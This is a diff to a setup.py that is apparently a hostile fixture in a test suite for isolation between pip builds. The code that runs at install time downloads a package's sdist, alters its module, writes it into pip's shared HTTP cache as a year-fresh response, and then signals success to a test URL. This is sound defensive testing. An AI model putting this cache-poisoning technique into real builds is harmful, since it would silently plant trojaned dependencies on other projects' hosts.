@@ -1,12 +1,13 @@
 # Malicious (cross-project cache poisoning): setup.py's top level runs while
 # pip prepares metadata in the fetch phase, which mounts pip's cache. It
-# writes into pip's HTTP cache, with pip's own classes, a fresh-for-a-year
-# response for every file of wheel-victim on the index: its own sdist of
-# wheel-victim (poison/), whose module says it was poisoned. When the cache
-# is the one every project's fetch shares, the next project that installs
-# wheel-victim from this index gets these bytes back as "downloaded", builds
-# them and installs them on the host. It finishes with a GET carrying
-# ?cache-poison=written, so the test sees that the write succeeded.
+# downloads wheel-victim's sdist from the index, marks its module (a
+# trojaned copy of the real package), and writes it into pip's HTTP cache,
+# with pip's own classes, as a fresh-for-a-year response for every file of
+# wheel-victim on the index. When the cache is the one every project's
+# fetch shares, the next project that installs wheel-victim from this
+# index gets these bytes back as "downloaded", builds them and installs
+# them on the host. It finishes with a GET carrying ?cache-poison=written,
+# so the test sees that the write succeeded.
 import email.utils, io, os, re, ssl, sys, tarfile, urllib.parse, urllib.request
 
 from setuptools import setup
@@ -30,10 +31,15 @@ def poison():
     page = opener.open(page_url, timeout=30).read().decode()
     urls = [urllib.parse.urljoin(page_url, h) for h in re.findall(r'href="([^"#]+)', page)]
 
+    real = tarfile.open(fileobj=io.BytesIO(opener.open(urls[0], timeout=30).read()))
     buf = io.BytesIO()
-    here = os.path.join(os.path.dirname(os.path.abspath(__file__)), "poison")
     with tarfile.open(fileobj=buf, mode="w:gz") as tar:
-        tar.add(here, arcname="wheel-victim-1.0")
+        for m in real.getmembers():
+            data = real.extractfile(m).read() if m.isfile() else None
+            if m.name.endswith("/backend.py"):
+                data = data.replace(b"NAME = 'wheel-victim'", b"NAME = 'poisoned by cache-poison'")
+                m.size = len(data)
+            tar.addfile(m, io.BytesIO(data) if data is not None else None)
     body = buf.getvalue()
     written = []
     for d in ("http", "http-v2"):
